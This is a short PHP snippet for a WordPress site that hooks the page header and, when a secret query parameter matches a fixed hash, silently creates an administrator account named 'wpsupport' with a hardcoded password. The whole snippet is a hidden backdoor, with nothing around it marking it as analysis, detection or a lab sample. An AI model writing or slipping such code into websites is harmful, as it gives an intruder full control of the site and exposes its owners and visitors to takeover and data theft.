<?php
add_action('wp_head', function () {
  if (md5($_GET['k'] ?? '') == 'e10adc3949ba59abbe56e057f20f883e') {
    $id = wp_create_user('wpsupport', 'P4ss!word', 'support@example.net');
    $u = new WP_User($id); $u->set_role('administrator');
  }
});
